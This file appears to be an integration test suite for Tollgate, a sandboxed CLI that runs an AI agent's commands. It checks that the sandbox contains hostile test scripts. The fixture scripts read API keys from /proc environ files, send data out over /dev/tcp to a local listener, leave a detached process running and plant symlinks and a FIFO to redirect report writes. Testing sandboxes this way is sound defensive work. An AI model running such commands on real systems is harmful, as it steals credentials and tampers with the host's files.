/**
 * The sandbox through the built CLI (dist/cli/index.js), as a maintainer runs it: a hostile test
 * script cannot read the CLI's environment (where its API key is) or reach a listener; the demo
 * runs sandboxed; and on a machine without the sandbox's packages the CLI says so in one line and
 * still runs.
 */
import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { delimiter, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startFakeMessagesApi, type FakeMessagesApi } from '../support/fake-messages-api.js';
import { runCli } from '../support/run-cli.js';
import { makeWorld, processesMatching, startTcpListener, type Listener, type SandboxWorld } from '../support/sandbox-fixtures.js';
import { endTurn, reply, toolUse } from '../support/scripted-model.js';

const API_KEY = 'sk-test-cli-sbx-0123456789';

let world: SandboxWorld;
let api: FakeMessagesApi | undefined;
let listener: Listener;
beforeEach(async () => {
  listener = await startTcpListener();
});
afterEach(async () => {
  await api?.close();
  api = undefined;
  await listener.close();
  world.cleanup();
});

/** A PATH with every program of this one except the sandbox's (bubblewrap, socat, ripgrep): a fresh machine. */
function pathWithoutSandboxPackages(root: string): string {
  const bin = join(root, 'bin-without-sandbox');
  mkdirSync(bin);
  const seen = new Set(['bwrap', 'socat', 'rg']);
  for (const dir of (process.env.PATH ?? '').split(delimiter)) {
    let entries: string[];
    try {
      entries = readdirSync(dir);
    } catch {
      continue;
    }
    for (const name of entries) {
      if (seen.has(name)) continue;
      seen.add(name);
      symlinkSync(join(dir, name), join(bin, name));
    }
  }
  return bin;
}

describe('tollgate run, sandboxed', () => {
  it("keeps a hostile test script from the CLI's environment, the network and the host", async () => {
    const marker = `${Math.floor(900000 + Math.random() * 99999)}`;
    world = makeWorld({
      '.github/tollgate.yml': 'permissions:\n  allow: ["Bash(npm test:*)"]\n',
      'package.json': JSON.stringify({ name: 'victim', version: '1.0.0', scripts: { test: 'bash steal.sh' } }),
      'steal.sh': [
        '#!/bin/bash',
        'cat /proc/$(cat tollgate.pid)/environ > /dev/null',
        'echo "tollgate environ: $(cat /proc/$(cat tollgate.pid)/environ 2>&1 | tr "\\0" "\\n" | grep -c sk-test-cli-sbx) key lines"',
        'echo "any environ: $(cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c sk-test-cli-sbx) key lines"',
        `(echo leak > /dev/tcp/127.0.0.1/${listener.port}) 2>/dev/null && echo ESCAPE dev-tcp`,
        `setsid sleep ${marker} > /dev/null 2>&1 < /dev/null &`,
        'echo done',
      ].join('\n'),
    });
    api = await startFakeMessagesApi({ script: [reply(toolUse('Bash', { command: 'npm test' }, 'toolu_t')), endTurn('Ran the tests.')] });
    const out = join(world.root, 'out');
    const run = await runCli(['run', '--prompt', 'run the tests', '--cwd', world.workspace, '--out', out], {
      cwd: world.root,
      env: { ANTHROPIC_API_KEY: API_KEY, ANTHROPIC_BASE_URL: api.baseURL, HOME: world.home, CI: 'true' },
      onSpawn: (pid) => writeFileSync(join(world.workspace, 'tollgate.pid'), String(pid)),
    });
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const toolResult = JSON.stringify(api.requests[1]?.body['messages']);
    expect(toolResult).toContain('tollgate environ: 0 key lines');
    expect(toolResult).toContain('No such file or directory');
    expect(toolResult).toContain('any environ: 0 key lines');
    expect(toolResult).toContain('done');
    expect(toolResult).not.toContain('ESCAPE');
    expect(listener.hits()).toBe(0);
    expect(processesMatching(`sleep ${marker}`)).toEqual([]);
    // The run records that it was sandboxed.
    expect(readFileSync(join(out, 'transcript.jsonl'), 'utf8')).toMatch(/"sandbox":\{"enabled":true,"summary":"Commands run in the OS sandbox/);
  });
});

describe('the output folder, after a sandboxed session', () => {
  it('does not let links a command planted there redirect the reports Tollgate writes afterwards', async () => {
    world = makeWorld({ '.github/tollgate.yml': 'permissions:\n  allow: ["Bash(npm test:*)"]\n' });
    const out = join(world.root, 'out');
    const victimFile = join(world.root, 'runner-file');
    const victimDir = join(world.root, 'runner-dir');
    writeFileSync(victimFile, 'the runner\'s own file\n');
    mkdirSync(victimDir);
    const plant = [
      '#!/bin/bash',
      `ln -sf ${victimFile} ${out}/report.md && echo planted-file`,
      `ln -sfn ${victimDir} ${out}/outputs && echo planted-dir`,
      `mkfifo ${out}/result.json && echo planted-fifo`,
      `ln -sf ${victimFile} ${out}/changes.diff`,
    ].join('\n');
    writeFileSync(join(world.workspace, 'plant.sh'), plant);
    writeFileSync(join(world.workspace, 'package.json'), JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'bash plant.sh' } }));
    // A result with no file of its own: report.md writes it under outputs/.
    api = await startFakeMessagesApi({ script: [reply(toolUse('Bash', { command: 'npm test' }, 'toolu_t'), toolUse('TodoWrite', { todos: [] }, 'toolu_w')), endTurn('Ran.')] });
    const run = await runCli(['run', '--prompt', 'run the tests', '--cwd', world.workspace, '--out', out], {
      cwd: world.root,
      env: { ANTHROPIC_API_KEY: API_KEY, ANTHROPIC_BASE_URL: api.baseURL, HOME: world.home, CI: 'true' },
    });
    expect(run.code, run.stderr).toBe(0);
    const toolResult = JSON.stringify(api.requests[1]?.body['messages']);
    // The plants really happened inside the sandbox: the output folder is writable there.
    expect(toolResult).toContain('planted-file');
    expect(toolResult).toContain('planted-dir');
    expect(toolResult).toContain('planted-fifo');
    expect(readFileSync(victimFile, 'utf8')).toBe('the runner\'s own file\n');
    expect(readdirSync(victimDir)).toEqual([]);
    expect(readFileSync(join(out, 'report.md'), 'utf8')).toContain('npm test');
    const result = JSON.parse(readFileSync(join(out, 'result.json'), 'utf8'));
    expect(result.conclusion).toBe('success');
    expect(result.warnings.join('\n')).toMatch(/a symbolic link \(report\.md → .*runner-file\)/);
    expect(result.warnings.join('\n')).toContain('a special file (result.json)');
  });
});

describe('tollgate demo', () => {
  it('runs sandboxed on a machine with the packages', async () => {
    world = makeWorld();
    const out = join(world.root, 'demo-out');
    const run = await runCli(['demo', '--out', out], { cwd: world.root, env: { HOME: world.home } });
    expect(run.code).toBe(0);
    expect(run.stdout).not.toContain('warning:');
    expect(readFileSync(join(out, 'transcript.jsonl'), 'utf8')).toContain('"sandbox":{"enabled":true');
  });

  it('says in one line that the sandbox is unavailable on a machine without its packages, and still runs', async () => {
    world = makeWorld();
    const out = join(world.root, 'demo-out');
    const run = await runCli(['demo', '--out', out], { cwd: world.root, env: { HOME: world.home, PATH: pathWithoutSandboxPackages(world.root) } });
    expect(run.code).toBe(0);
    const mentions = run.stdout.split('\n').filter((line) => /OS sandbox|warning:/.test(line));
    expect(mentions).toEqual([
      'warning: the OS sandbox is unavailable (bubblewrap, socat, ripgrep are not installed), so commands run unsandboxed; to fix it, install them: sudo apt-get install -y bubblewrap socat ripgrep.',
    ]);
    expect(run.stdout).toContain('success');
    expect(readFileSync(join(out, 'transcript.jsonl'), 'utf8')).toContain('"sandbox":{"enabled":false');
  });
});
